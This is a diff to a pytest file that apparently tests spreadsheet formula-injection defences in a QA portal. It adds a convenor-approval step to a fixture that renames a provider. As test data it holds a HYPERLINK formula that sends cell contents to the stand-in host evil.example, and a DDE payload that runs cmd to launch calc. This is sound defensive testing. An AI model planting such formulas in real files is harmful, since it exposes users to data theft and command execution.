@@ -8,7 +8,7 @@ import pytest
 from lxml import etree
 from openpyxl import load_workbook
 
-from programmes.models import Programme
+from programmes.models import Programme, ProgrammeChange
 from programmes.vocabulary import ProgrammeStatus
 from providers.models import Provider
 from qaportal.spreadsheets import inert_cell
@@ -25,11 +25,16 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
 @pytest.fixture
-def renamed_provider(client, provider_editor, provider):
-    """The provider renamed to a formula through the editor's own profile form, with a published programme."""
+def renamed_provider(client, provider_editor, convenor, provider):
+    """The provider renamed to a formula through the editor's own profile form and approved by a convenor
+    (a new name is public text), with a published programme."""
     factories.make_programme(provider, title="@SUM(1+1)*cmd|' /C calc'!A0", status=ProgrammeStatus.PUBLISHED)
     client.force_login(provider_editor)
     response = client.post(f"/provider/providers/{provider.slug}/profile/", PROFILE | {"name": HYPERLINK})
+    assert response.status_code == 302
+    change = ProgrammeChange.objects.get(provider=provider, kind=ProgrammeChange.Kind.PROVIDER)
+    client.force_login(convenor)
+    response = client.post(f"/convenor/changes/{change.id}/", {"decision": "approve"})
     assert response.status_code == 302
     client.logout()
     provider.refresh_from_db()
